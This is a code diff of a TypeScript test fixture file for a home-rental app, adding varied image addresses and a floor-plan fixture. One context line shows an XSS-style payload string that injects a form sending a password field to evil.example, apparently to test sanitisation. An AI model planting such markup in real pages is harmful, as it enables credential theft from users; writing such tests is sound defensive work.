@@ -22,8 +22,19 @@ export const hostileDescription = [
   '</math><form action="https://evil.example"><input name="password"></form>',
 ].join('')
 
-/** One home more than a page of eight holds, and what is awkward about each. */
-export async function createHomes(): Promise<Wire[]> {
+/** Addresses of one picture: from its root, without a slash, on its own host over plain http, and below /api. */
+const addressesOf = (origin: string): string[] => [
+  '/web/image/11?unique=a1',
+  'web/image/12',
+  `${origin}/web/image/13`,
+  '/api/v1/image/14',
+]
+
+/**
+ * One home more than a page of eight holds, and what is awkward about each.
+ * @param origin of the backend itself
+ */
+export async function createHomes(origin: string): Promise<Wire[]> {
   const [png, jpeg, webp, gif] = await Promise.all([
     plainPicture('png', '#b8cdbf'),
     plainPicture('jpeg', '#d9b79a'),
@@ -103,12 +114,12 @@ export async function createHomes(): Promise<Wire[]> {
     price: String(1300 + 100 * index),
     category_id: [1, 'Apartment'],
     amenities: [],
-    pictures: [{ url: '/api/v1/image/1', variants: false }],
+    pictures: [{ url: addressesOf(origin)[index % 4], variants: false }],
   }))
   return [loft, studio, petHouse, smokers, ...plain]
 }
 
-/** What `/api/v1/image/1` answers. */
+/** What the addresses of a picture answer. */
 export async function createPicture(): Promise<Uint8Array<ArrayBuffer>> {
   return new Uint8Array(Buffer.from(await plainPicture('png', '#c5d5cb'), 'base64'))
 }
@@ -207,4 +218,29 @@ export async function createFloorPlan(): Promise<Wire> {
       { id: 'nobody', x1: 'left', y1: 0, x2: 1, y2: 1 },
     ],
   }
+}
+
+/** A floor plan whose picture is an address, and whose rooms have ids that are no names. */
+export const addressedPlan: Wire = {
+  id: 'plan-11',
+  name: 'Plain Flat 1',
+  dimensions: { width: 320, height: 213 },
+  image_data: false,
+  image_url: '/web/image/plan-11',
+  rooms: [
+    {
+      id: '1005-r0',
+      name: 'River Room',
+      type: 'single',
+      available: true,
+      clickable_areas: [{ id: 'a', x1: 10, y1: 10, x2: 150, y2: 200 }],
+    },
+    {
+      id: '1005-r1',
+      name: 'Hill Room',
+      type: 'master',
+      available: true,
+      clickable_areas: [{ id: 'b', x1: 170, y1: 10, x2: 310, y2: 200 }],
+    },
+  ],
 }
